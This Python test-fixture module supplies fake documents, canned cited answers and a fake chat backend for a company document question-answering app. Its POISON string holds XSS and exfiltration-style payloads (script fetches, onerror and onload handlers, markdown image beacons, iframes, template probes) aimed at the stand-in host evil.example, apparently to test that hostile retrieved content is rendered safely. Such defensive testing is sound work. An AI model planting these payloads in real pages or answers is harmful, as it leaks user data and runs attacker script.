"""Stand-ins for our own ports, with a small company's documents as their content."""

import threading
from collections.abc import Callable, Collection, Iterable, Sequence
from dataclasses import dataclass, field, replace

from app.answering.ask import Ask
from app.answering.events import (
    Answer,
    AnswerSentence,
    Citation,
    Dropped,
    Event,
    EvidenceFound,
    Finished,
    ModelName,
    Reading,
    Said,
    Searching,
    Usage,
    Writing,
)
from app.answering.plan import Kind, Plan
from app.answering.stream import EventStream
from app.people.access import Person
from app.web.chat.backend import AnswerFailed, FailureKind, ModelNotice, Readiness
from vectorstore.records import DocumentRecord, Hit


def document(name: str, pages: int | None = None, space: str = "general") -> DocumentRecord:
    return DocumentRecord(space, name, name, "0" * 64, f"/docs/{name}", pages, 12, "", "2026-11-01")


def hit(name: str, page: int | None, heading: str, text: str, chunk: str) -> Hit:
    return Hit(name, page, heading, text, 0.5, chunk, "general", 3)


DOCUMENTS = (
    document("Employee handbook 2026.pdf", 14),
    document("Travel policy.docx"),
    document("policies/Information security.html"),
    document("Price list.xlsx"),
    document("Release notes.md"),
    document("archive/Employee handbook 2021.pdf", 11),
)
LEAVE = hit(
    "Employee handbook 2026.pdf",
    4,
    "Working time > Annual leave",
    "Every full-time employee is entitled to 28 working days of paid annual leave in a calendar "
    "year. Up to five days may be carried over until 31 March of the next year.",
    "a" * 16,
)
OLD_LEAVE = hit(
    "archive/Employee handbook 2021.pdf",
    3,
    "Leave",
    "Annual leave is 25 working days. This edition was replaced on 1 January 2026.",
    "b" * 16,
)
MEALS = hit(
    "Travel policy.docx",
    None,
    "Abroad > Allowances",
    "The meal allowance abroad is 42 euros for a full day and 28 euros for the day of arrival or "
    "departure. Receipts are not needed.",
    "c" * 16,
)
SECURITY = hit(
    "policies/Information security.html",
    None,
    "Passwords",
    "Passwords have at least 14 characters and are kept in the company's password manager.",
    "d" * 16,
)
PASSAGES = (LEAVE, OLD_LEAVE, MEALS, SECURITY)
EXAMPLES = (
    "How many days of annual leave do I get?",
    "What is the meal allowance abroad?",
    "How long must a password be?",
    "What changed in the latest release?",
)


def cite(n: int, passage: Hit, quote: str) -> Citation:
    return Citation(
        n, passage.document, passage.page, passage.heading, quote, passage.chunk_id, passage.space
    )


def answer(
    question: str,
    sentences: Sequence[AnswerSentence],
    citations: Sequence[Citation],
    *,
    passages: Sequence[Hit] = PASSAGES,
    found: bool = True,
    quoted: bool = False,
    dropped: Dropped = Dropped(),  # noqa: B008 -- frozen
) -> Answer:
    marked = " ".join(
        sentence.text + "".join(f" [{n}]" for n in sentence.citations) for sentence in sentences
    )
    usage = Usage(4096, 1890, 96, 0, dropped)
    timings = {"search_s": 0.04, "first_token_s": 1.1, "total_s": 4.2}
    model = ModelName("SmolLM2-135M-Instruct-Q8_0", "1" * 64)
    return Answer(
        id="answer-1", question=question, answer=marked, found=found, quoted=quoted,
        confidence=0.9 if found else 0.2, sentences=sentences, citations=citations,
        passages=passages, usage=usage, timings=timings, model=model,
    )  # fmt: skip


def leave_answer(question: str) -> Answer:
    return answer(
        question,
        [
            AnswerSentence("Full-time employees get **28 working days** of leave.", (1,), True),
            AnswerSentence("Up to five unused days carry over until 31 March.", (1,), True),
            AnswerSentence("The 2021 edition of the handbook still says 25 days.", (2,), True),
            AnswerSentence("Part-time employees usually receive the same amount.", (), False),
        ],
        [
            cite(1, LEAVE, LEAVE.text.split(". ", maxsplit=1)[0] + "."),
            cite(2, OLD_LEAVE, OLD_LEAVE.text),
        ],
        dropped=Dropped(passages=2, history_turns=1),
    )


def meals_answer(question: str) -> Answer:
    quote = MEALS.text.split(". ", maxsplit=1)[0] + "."
    sentence = AnswerSentence(quote, (1,), True)
    return answer(question, [sentence], [cite(1, MEALS, quote)], passages=(MEALS,), quoted=True)


def nothing_found(question: str) -> Answer:
    return answer(question, [], [], passages=PASSAGES[1:], found=False)


POISON = (
    "![x](http://evil.example/leak.png) <img src=http://evil.example/i.png onerror=alert(1)> "
    "<script>fetch('http://evil.example/s')</script> [click](http://evil.example/c) "
    '<style>body{background:url("http://evil.example/b.png")}</style> '
    "<svg/onload=fetch('http://evil.example/v')> {{7*7}} ${fetch('http://evil.example/t')} "
    '"><iframe src=http://evil.example/f></iframe> <link rel=stylesheet href=//evil.example/x.css>'
)


def poisoned_answer(question: str) -> Answer:
    evil = replace(LEAVE, document=f"{POISON}.pdf", heading=POISON, text=POISON, chunk_id="e" * 16)
    return answer(
        question,
        [AnswerSentence(POISON, (1,), True), AnswerSentence(POISON, (), False)],
        [cite(1, evil, POISON)],
        passages=(evil, replace(evil, chunk_id="f" * 16)),
    )


def list_answer(question: str) -> Answer:
    """A list, each of whose items is a quotation."""
    told = [
        (1, LEAVE, "Up to five days may be carried over."),
        (2, MEALS, "Receipts are not needed."),
    ]
    made = answer(
        question,
        [AnswerSentence(words, (n,), True) for n, _, words in told],
        [cite(n, passage, words) for n, passage, words in told],
        quoted=True,
    )
    listed = "\n".join(f"- {words} [{n}]" for n, _, words in told)
    return replace(made, answer=listed, form="list")


def steps_answer(question: str) -> Answer:
    """A way to do something, one step of which nothing confirms."""
    steps = [
        AnswerSentence("Open the password manager.", (1,), True),
        AnswerSentence("Choose **New entry**.", (1,), True),
        AnswerSentence("Call the help desk.", (), False),
    ]
    made = answer(question, steps, [cite(1, SECURITY, SECURITY.text)])
    text = "1. Open the password manager. [1]\n2. Choose **New entry**. [1]\n3. Call the help desk."
    return replace(made, answer=text, form="steps")


def compared_answer(question: str) -> Answer:
    """Two editions side by side, of which one part is missing."""
    new, old = LEAVE.text.split(". ", maxsplit=1)[0], OLD_LEAVE.text.split(". ", maxsplit=1)[0]
    made = answer(
        question,
        [AnswerSentence(new, (1,), True), AnswerSentence(old, (2,), True)],
        [cite(1, LEAVE, new), cite(2, OLD_LEAVE, old)],
        quoted=True,
    )
    missing = "What will it be in 2030?"
    text = (
        "| Handbook 2026 | Handbook 2021 |\n| --- | --- |\n"
        f"| “{new}” [1] | “{old}” [2] |\n\nThe documents do not answer this part: {missing}"
    )
    return replace(
        made,
        answer=text,
        form="comparison",
        outcome="partly",
        missing=(missing,),
        plan=Plan(Kind.COMPARISON, (question, missing)),
    )


def near_answer(question: str) -> Answer:
    """Passages that are about it, and do not answer it."""
    quote = MEALS.text.split(". ", maxsplit=1)[0] + "."
    sentence = AnswerSentence(f"“{quote}”", (3,), False)
    made = answer(question, [sentence], [cite(3, MEALS, quote)], found=False, quoted=True)
    text = f"This is the nearest that the documents say:\n\n> “{quote}” [3]"
    return replace(made, answer=text, outcome="unconfirmed")


def greeting(question: str) -> Answer:
    """An answer that rests on no document."""
    said = "Hello. Ask me about the documents."
    made = answer(question, [AnswerSentence(said, (), True)], [], passages=())
    return replace(made, form="talk")


RAW_DRAFT = "It is 9,999 days, as everybody knows"  # no passage says so


def script(finished: Answer) -> list[Event]:
    """The usual course of events before an answer, word by word, and a draft that is false."""
    if finished.form == "talk":
        return [Finished(finished)]
    words = finished.answer.split(" ") if finished.found and not finished.quoted else []
    said = [Said(" ".join(words[: n + 1])) for n in range(len(words))]
    reading = Reading(finished.passages, finished.usage.dropped)
    evidence = [EvidenceFound(finished.citations)] if finished.found else []
    begun: list[Event] = [Searching(finished.question), reading, *evidence, Writing(RAW_DRAFT)]
    return [*begun, *said, Finished(finished)]


class FakeStream(EventStream[Event]):
    """Plays events; waits where it meets a string, until `go` is set or it is closed."""

    def __init__(self, events: Sequence[Event | str | AnswerFailed], go: threading.Event) -> None:
        self._events = iter(events)
        self._go = go
        self.closed = threading.Event()
        self.ended = threading.Event()

    def __next__(self) -> Event:
        for event in self._events:
            if isinstance(event, str):
                while not (self._go.wait(0.02) or self.closed.is_set()):
                    pass
                continue
            if self.closed.is_set():
                break
            if isinstance(event, AnswerFailed):
                raise event
            return event
        self.ended.set()
        raise StopIteration

    def close(self) -> None:
        self.closed.set()


@dataclass
class FakeBackend:
    """A ChatBackend that knows a few questions; remembers how it was asked.

    A question with "slow" stops after its second word is said, one with "long search" before
    anything is found, until `go` is set.
    """

    known: Sequence[DocumentRecord] = DOCUMENTS
    weak: bool = True
    status: str = "ready"
    closed: Collection[str] = ()  # spaces that nobody may read any more
    asked: list[Ask] = field(default_factory=list)
    streams: list[FakeStream] = field(default_factory=list)
    go: threading.Event = field(default_factory=threading.Event)

    def reset(self) -> None:
        """Forget everything that was asked."""
        self.go.set()
        self.__init__()  # type: ignore[misc]

    def ask(self, ask: Ask, person: Person) -> EventStream[Event]:
        assert ask.person == person.id
        self.asked.append(ask)
        stream = FakeStream(self._events(ask.question), self.go)
        self.streams.append(stream)
        return stream

    def may_keep(self, question: str, person: Person) -> str:
        return question

    def were_deleted(self, documents: Iterable[tuple[str, str]], person: Person) -> bool:
        return False

    def _events(self, question: str) -> Sequence[Event | str | AnswerFailed]:
        asked = question.lower()
        for kind in FailureKind:
            if kind.value in asked:
                return [
                    Searching(question),
                    AnswerFailed(kind, 12 if kind.value == "busy" else None),
                ]
        if "crash" in asked:
            raise RuntimeError(f"a stack trace with {question}")
        makers: dict[str, Callable[[str], Answer]] = {
            "leave": leave_answer,
            "meal": meals_answer,
            "poison": poisoned_answer,
            "which": list_answer,
            "steps": steps_answer,
            "compare": compared_answer,
            "canteen": near_answer,
            "hello": greeting,
        }
        finished = next(
            (make(question) for word, make in makers.items() if word in asked),
            nothing_found(question),
        )
        events: list[Event | str | AnswerFailed] = list(script(finished))
        if "long search" in asked:
            events.insert(1, "wait")
        if "slow" in asked:
            said = [n for n, event in enumerate(events) if isinstance(event, Said)]
            behind = min(12 if "very" in asked else 2, len(said))
            events.insert(said[behind - 1] + 1 if said else len(events) - 1, "wait")
        return events

    def documents(self, person: Person) -> Sequence[DocumentRecord]:
        del person
        return self.known

    def readable(self, person: Person, spaces: Iterable[str]) -> Collection[str]:
        del person
        return {space for space in spaces if space not in self.closed}

    def curates(self, person: Person) -> bool:
        return person.administrator

    def examples(self, person: Person) -> Sequence[str]:
        del person
        return EXAMPLES if self.known else ()

    def model(self) -> ModelNotice | None:
        return ModelNotice("SmolLM2-135M-Instruct", self.weak)

    def readiness(self) -> Readiness:
        return Readiness(self.status)  # type: ignore[arg-type]
